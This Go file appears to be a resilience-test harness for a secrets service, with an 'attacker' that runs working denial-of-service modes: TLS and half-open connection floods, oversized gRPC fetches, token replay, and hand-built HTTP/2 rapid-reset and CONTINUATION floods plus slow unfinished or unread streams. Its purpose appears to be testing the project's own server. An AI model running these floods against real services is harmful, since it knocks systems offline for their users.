package attack

import (
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	"google.golang.org/protobuf/proto"

	secretsv1 "github.com/leoflow/secrets-csi/api/leoflow/secrets/v1"
)

// strangerOrders are those of somebody who can reach core from an address of his own.
type strangerOrders struct {
	Kind, Address, CA string
	// Tokens are good or bad ones, by what the attack is.
	Tokens []string
	// Cert and Key are a node's, which the attacker has taken over; empty for none.
	Cert, Key string
}

// strangerAddress is another than the driver's: core counts by addresses.
const strangerAddress = "127.0.0.66"

// stranger is the attacker with what he was given.
type stranger struct {
	strangerOrders
	settings *tls.Config
}

// kinds go on until ctx ends. What core says to them, and that it hangs up, they are used to.
var kinds = map[string]func(s *stranger, ctx context.Context){
	"burn":        (*stranger).burn,
	"idle":        (*stranger).idle,
	"half-open":   (*stranger).halfOpen,
	"tokens":      (*stranger).showTokens,
	"large":       (*stranger).askMuch,
	"good":        (*stranger).askAgain,
	"unfinished":  (*stranger).finishNothing,
	"unread":      (*stranger).readNothing,
	"resets":      (*stranger).reset,
	"continue":    (*stranger).continueForEver,
	"watches":     (*stranger).watch,
	"re-watch":    (*stranger).watchAgain,
	"other calls": (*stranger).replay,
}

func asStranger(ctx context.Context, text []byte) error {
	s := &stranger{}
	if err := json.Unmarshal(text, &s.strangerOrders); err != nil {
		return err
	}
	authority, err := os.ReadFile(s.CA)
	if err != nil {
		return err
	}
	s.settings = &tls.Config{RootCAs: x509.NewCertPool(), ServerName: "core", NextProtos: []string{"h2"}}
	s.settings.RootCAs.AppendCertsFromPEM(authority)
	if s.Cert != "" {
		pair, err := tls.LoadX509KeyPair(s.Cert, s.Key)
		if err != nil {
			return err
		}
		s.settings.Certificates = []tls.Certificate{pair}
	}
	kinds[s.Kind](s, ctx)
	return nil
}

// burn never comes near core.
func (s *stranger) burn(ctx context.Context) {
	sum := sha256.Sum256(nil)
	many(ctx, 1, func() { sum = sha256.Sum256(sum[:]) })
}

// many does the same in several goroutines until ctx ends.
func many(ctx context.Context, count int, work func()) {
	var all sync.WaitGroup
	for range count {
		all.Go(func() {
			for ctx.Err() == nil {
				work()
			}
		})
	}
	all.Wait()
}

func (s *stranger) connect(ctx context.Context) (net.Conn, error) {
	dialer := net.Dialer{Timeout: 2 * time.Second, LocalAddr: &net.TCPAddr{IP: net.ParseIP(strangerAddress)}}
	return dialer.DialContext(ctx, "tcp", s.Address)
}

func (s *stranger) secure(ctx context.Context) (*tls.Conn, error) {
	raw, err := s.connect(ctx)
	if err != nil {
		return nil, err
	}
	conn := tls.Client(raw, s.settings)
	ctx, cancel := context.WithTimeout(ctx, 2*time.Second)
	defer cancel()
	if err := conn.HandshakeContext(ctx); err != nil {
		_ = raw.Close()
		return nil, err
	}
	return conn, nil
}

// hold keeps so many open, the youngest ones.
func hold[C io.Closer](ctx context.Context, most int, open func() (C, error)) {
	held := make(chan C, most)
	many(ctx, 8, func() {
		conn, err := open()
		if err != nil {
			return
		}
		for {
			select {
			case held <- conn:
				return
			case oldest := <-held:
				_ = oldest.Close()
			}
		}
	})
}

func (s *stranger) idle(ctx context.Context) {
	hold(ctx, 3400, func() (*tls.Conn, error) { return s.secure(ctx) })
}

func (s *stranger) halfOpen(ctx context.Context) {
	hold(ctx, 10000, func() (net.Conn, error) { return s.connect(ctx) })
}

// client is gRPC's, whose connections come and go.
func (s *stranger) client(ctx context.Context, work func(secretsv1.SecretsServiceClient) error) {
	conn, err := grpc.NewClient("passthrough:///"+s.Address, grpc.WithTransportCredentials(credentials.NewTLS(s.settings)),
		grpc.WithContextDialer(func(ctx context.Context, _ string) (net.Conn, error) { return s.connect(ctx) }))
	if err != nil {
		return
	}
	defer func() { _ = conn.Close() }()
	for ctx.Err() == nil && work(secretsv1.NewSecretsServiceClient(conn)) == nil {
	}
}

func (s *stranger) callers() []*secretsv1.Caller {
	callers := make([]*secretsv1.Caller, len(s.Tokens))
	for i, token := range s.Tokens {
		callers[i] = &secretsv1.Caller{Token: token}
	}
	return callers
}

// showTokens shows many in each call, over and over.
func (s *stranger) showTokens(ctx context.Context) {
	request := &secretsv1.FetchRequest{Callers: s.callers(), Variables: &secretsv1.Selection{Names: []string{"region"}}}
	many(ctx, 8, func() {
		s.client(ctx, func(client secretsv1.SecretsServiceClient) error {
			_, err := client.Fetch(ctx, request)
			return err
		})
	})
}

// names are a thousand that are not there.
func names() *secretsv1.Selection {
	selection := &secretsv1.Selection{}
	for i := range 512 {
		selection.Names = append(selection.Names, fmt.Sprint("absent-", i))
	}
	return selection
}

// askMuch asks the most that may be asked at once.
func (s *stranger) askMuch(ctx context.Context) {
	request := &secretsv1.FetchRequest{Callers: s.callers(), Connections: names(), Variables: names()}
	many(ctx, 16, func() {
		s.client(ctx, func(client secretsv1.SecretsServiceClient) error {
			_, err := client.Fetch(ctx, request)
			return err
		})
	})
}

// askAgain asks for all that its good token may read, without pause.
func (s *stranger) askAgain(ctx context.Context) {
	everything := &secretsv1.Selection{All: true}
	request := &secretsv1.FetchRequest{Callers: s.callers(), Connections: everything, Variables: everything}
	many(ctx, greedyCalls, func() {
		s.client(ctx, func(client secretsv1.SecretsServiceClient) error {
			_, err := client.Fetch(ctx, request)
			return err
		})
	})
}

// replay uses other pods' tokens.
func (s *stranger) replay(ctx context.Context) { s.showTokens(ctx) }

func (s *stranger) watch(ctx context.Context) {
	many(ctx, 64, func() {
		s.client(ctx, func(client secretsv1.SecretsServiceClient) error {
			var err error
			for range 10000 / 64 {
				if _, err = client.Watch(ctx, &secretsv1.WatchRequest{}); err != nil {
					return err
				}
			}
			time.Sleep(time.Second) // they stand
			return io.EOF
		})
	})
}

// watchAgain begins one watch after the other, and waits for what each says first.
func (s *stranger) watchAgain(ctx context.Context) {
	many(ctx, 8, func() {
		s.client(ctx, func(client secretsv1.SecretsServiceClient) error {
			one, cancel := context.WithCancel(ctx)
			defer cancel()
			stream, err := client.Watch(one, &secretsv1.WatchRequest{})
			if err == nil {
				_, err = stream.Recv()
			}
			return err
		})
	})
}

// frames is HTTP/2 written by hand.
type frames struct {
	*http2.Framer
	conn   *tls.Conn
	fields bytes.Buffer
	coder  *hpack.Encoder
}

func (s *stranger) frames(ctx context.Context) *frames {
	conn, err := s.secure(ctx)
	if err != nil {
		return nil
	}
	f := &frames{Framer: http2.NewFramer(conn, nil), conn: conn}
	f.coder = hpack.NewEncoder(&f.fields)
	_ = conn.SetWriteDeadline(time.Now().Add(time.Minute))
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil || f.WriteSettings() != nil {
		_ = conn.Close()
		return nil
	}
	return f
}

func (f *frames) headers(method, token string) []byte {
	f.fields.Reset()
	for _, field := range [][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":authority", "core"}, {":path", method},
		{"content-type", "application/grpc"}, {"te", "trailers"}, {"authorization", "Bearer " + token},
	} {
		_ = f.coder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true})
	}
	return bytes.Clone(f.fields.Bytes())
}

const (
	fetchMethod = "/leoflow.secrets.v1.SecretsService/Fetch"
	agentMethod = "/leoflow.agent.v1.AgentService/GetVariables"
)

// begin opens a call and sends what there is of its message, said to be so long.
func (f *frames) begin(stream uint32, method, token string, length int, message []byte) error {
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.headers(method, token), EndHeaders: true}); err != nil {
		return err
	}
	prefix := binary.BigEndian.AppendUint32([]byte{0}, uint32(length))
	message = append(prefix, message...)
	for len(message) > 0 {
		part := message[:min(len(message), 16<<10)]
		message = message[len(part):]
		if err := f.WriteData(stream, len(message) == 0 && len(prefix)+length == len(prefix)+len(message), part); err != nil {
			return err
		}
	}
	return nil
}

// known makes a call with a good token, after which the connection is no stranger's.
func (f *frames) known(token string) error {
	return f.begin(1, agentMethod, token, 0, nil)
}

// finishNothing sends almost all of many messages, on connections on which a token was good.
func (s *stranger) finishNothing(ctx context.Context) {
	most := make([]byte, 60<<10)
	many(ctx, 32, func() {
		f := s.frames(ctx)
		if f == nil {
			return
		}
		defer func() { _ = f.conn.Close() }()
		go func() { _, _ = io.Copy(io.Discard, f.conn) }()
		err := f.known(s.Tokens[0])
		for stream := uint32(3); err == nil && stream < 64; stream += 2 {
			err = f.begin(stream, fetchMethod, s.Tokens[0], 1<<20-1, most)
		}
		rest(ctx, 5*time.Second)
	})
}

func rest(ctx context.Context, length time.Duration) {
	select {
	case <-time.After(length):
	case <-ctx.Done():
	}
}

// readNothing has core make large answers, and takes none.
func (s *stranger) readNothing(ctx context.Context) {
	request, _ := proto.Marshal(&secretsv1.FetchRequest{Callers: s.callers(), Connections: names(), Variables: names()})
	many(ctx, 32, func() {
		f := s.frames(ctx)
		if f == nil {
			return
		}
		defer func() { _ = f.conn.Close() }()
		for stream := uint32(1); stream < 64; stream += 2 {
			if f.begin(stream, fetchMethod, s.Tokens[0], len(request), request) != nil {
				return
			}
		}
		rest(ctx, 20*time.Second)
	})
}

func (s *stranger) reset(ctx context.Context) {
	s.flood(ctx, func(f *frames, i uint32) error {
		id := 2*i + 1
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: f.headers(fetchMethod, ""), EndHeaders: true}); err != nil {
			return err
		}
		return f.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

func (s *stranger) continueForEver(ctx context.Context) {
	filling := []byte(strings.Repeat("\x00\x01a\x01b", 200))
	s.flood(ctx, func(f *frames, i uint32) error {
		if i == 0 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.headers(fetchMethod, "")})
		}
		return f.WriteContinuation(1, false, filling)
	})
}

func (s *stranger) flood(ctx context.Context, write func(f *frames, i uint32) error) {
	many(ctx, 8, func() {
		f := s.frames(ctx)
		if f == nil {
			return
		}
		defer func() { _ = f.conn.Close() }()
		go func() { _, _ = io.Copy(io.Discard, f.conn) }()
		for i := uint32(0); ctx.Err() == nil && i < 1<<30; i++ {
			if write(f, i) != nil {
				return
			}
		}
	})
}
